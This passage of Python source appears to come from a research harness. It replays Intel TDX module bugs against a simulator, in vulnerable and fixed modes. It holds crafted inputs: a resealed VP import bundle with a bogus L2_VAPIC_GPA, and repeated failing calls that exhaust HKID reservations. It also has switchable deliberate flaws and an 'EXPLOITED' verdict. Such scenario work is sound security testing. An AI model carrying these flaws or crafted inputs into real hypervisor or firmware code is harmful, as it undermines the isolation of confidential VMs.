            "tdh_sys_config x K (bad TDMR entry alignment each time)",
            drain,
            {"vulnerable": OPERAND_INVALID_RCX, "fixed": OPERAND_INVALID_RCX},
        ),
        Step(
            "tdh_mng_create (any HKID)",
            lambda m, e: m.tdh_mng_create(hkid=0)[0],
            {"vulnerable": HKID_NOT_FREE, "fixed": SUCCESS},
        ),
    ]
    checks = [
        Check(
            "all KOT entries left HKID_RESERVED (no TD creatable)",
            lambda m, e: m.kot.free_count() == 0,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "free-entry count conserved across failing calls",
            lambda m, e: m.kot.free_count() == e["kot_size"] - 1,  # one used by mng_create
            {"vulnerable": False, "fixed": True},
        ),
    ]
    return Scenario(
        name="bug-8-hkid-exhaustion",
        title="failing sys_config calls leak HKID reservations",
        toggles={"bug8": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug9() -> Scenario:
    BOGUS_GPA = 0xFFFF_8000_0000_0000  # above the 48-bit guest width

    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        export_blackout(m, env)
        import_to_state_import(m, env)
        vp_seqs = collect_sequences(decrypted_lists(m, env, env["bundle_vps"][0]))
        vapic = m.catalog.by_name(MD_CTX_VP, "L2_VAPIC_GPA")
        vp_seqs.append(
            MdSequence(
                md.make_sequence_header(MD_CTX_VP, vapic.class_code, vapic.field_code),
                [BOGUS_GPA],
            )
        )
        env["crafted"] = seal(env["key"], BundleType.VP, repack(vp_seqs))
        env["bogus"] = BOGUS_GPA
        return env

    steps = [
        Step(
            "tdh_import_state_vp dst (L2_VAPIC_GPA = non-canonical private GPA)",
            lambda m, e: m.tdh_import_state_vp(e["dst"], 0, e["crafted"]),
            {"vulnerable": SUCCESS, "fixed": FATAL_VALUE_NOT_VALID},
        ),
    ]
    checks = [
        Check(
            "invalid private GPA accepted and stored",
            lambda m, e: e["dst"].vps[0].values(
                m.catalog.by_name(MD_CTX_VP, "L2_VAPIC_GPA")
            )[0] == e["bogus"],
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "import failed and the TD is quarantined in FAILED_IMPORT",
            lambda m, e: e["dst"].op_state is OpState.FAILED_IMPORT,
            {"vulnerable": False, "fixed": True},
        ),
    ]
    return Scenario(
        name="bug-9-gpa-check-skip",
        title="private-GPA validity checks skipped on metadata import",
        toggles={"bug9": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def all_scenarios() -> dict[str, Scenario]:
    scenarios = [
        _scenario_v1(),
        _scenario_v2(),
        _scenario_bug1(),
        _scenario_bug2(),
        _scenario_bug3(),
        _scenario_bug4(),
        _scenario_bug6(),
        _scenario_bug8(),
        _scenario_bug9(),
    ]
    return {s.name: s for s in scenarios}


def run_scenario(scenario: Scenario, mode: str, seed: int = 7) -> ScenarioRun:
    if mode not in ("vulnerable", "fixed"):
        raise ValueError(f"mode must be vulnerable or fixed, not {mode!r}")
    toggles = scenario.toggles if mode == "vulnerable" else {}
    module = TdxModule(EngineMode.with_toggles(toggles), seed=seed)
    lines = [
        f"{scenario.name}: {scenario.title}",
        f"mode: {mode} seed: {seed}",
    ]
    ok = True
    env = scenario.setup(module)
    for index, step in enumerate(scenario.steps):
        status = step.run(module, env)
        env[f"_step_status_{index}"] = status
        expected = step.expect[mode]
        matched = expected.matches(status)
        ok = ok and matched
        lines.append(f"host-vmm: {step.call}")
        lines.append(f"TDX STATUS: {S.status_str(status)}")
        if status is not None and status & S.TDX_FATAL_FLAG_MASK:
            lines.append(
                f"extended error information 1: {hex(module.vmm_regs['rcx'])}, "
                f"2: {hex(module.vmm_regs['rdx'])}"
            )
        if not matched:
            lines.append(f"  MISMATCH: expected {expected.label}")
    for check in scenario.checks:
        observed = bool(check.run(module, env))
        expected = check.expect[mode]
        matched = observed is expected
        ok = ok and matched
        flag = "yes" if observed else "no"
        want = "yes" if expected else "no"
        marker = "+" if matched else "!"
        lines.append(f"[{marker}] {check.label}: {flag} (expected {want})")
    trace_problems = []
    for td in module.tds.values():
        trace_problems.extend(validate_trace(module.matrix, td.trace, not module.mode.v1))
    if trace_problems:
        ok = False
        for problem in trace_problems:
            lines.append(f"trace violation: {problem}")
    else:
        lines.append("op_state traces: valid")
    verdict = (
        ("EXPLOITED" if mode == "vulnerable" else "NOT EXPLOITABLE") if ok else "MISMATCH"
    )
    lines.append(f"verdict: {verdict}")
    return ScenarioRun(scenario.name, mode, ok, verdict, "\n".join(lines) + "\n")
